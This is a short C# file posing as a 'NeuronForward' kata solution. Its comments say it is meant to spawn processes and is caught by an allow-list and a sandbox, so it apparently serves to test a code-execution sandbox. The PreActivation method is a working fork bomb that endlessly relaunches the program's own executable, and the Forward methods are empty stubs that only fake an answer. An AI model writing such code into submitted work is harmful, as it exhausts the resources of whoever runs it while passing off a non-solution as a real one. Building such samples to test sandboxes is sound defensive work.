// tries: start processes that start processes
// stopped by: allow-list
// then by: sandbox
namespace Katas.NeuronForward;

public sealed class Neuron(double[] weights, double bias, double alpha = 0.01)
{
    public double PreActivation(double[] x)
    {
        while (true)
        {
            System.Diagnostics.Process.Start(Environment.ProcessPath!, Environment.GetCommandLineArgs().Skip(1));
        }
    }

    public double Forward(double[] x) => 0;

    public double[] Forward(double[][] batch) => new double[batch.Length];
}
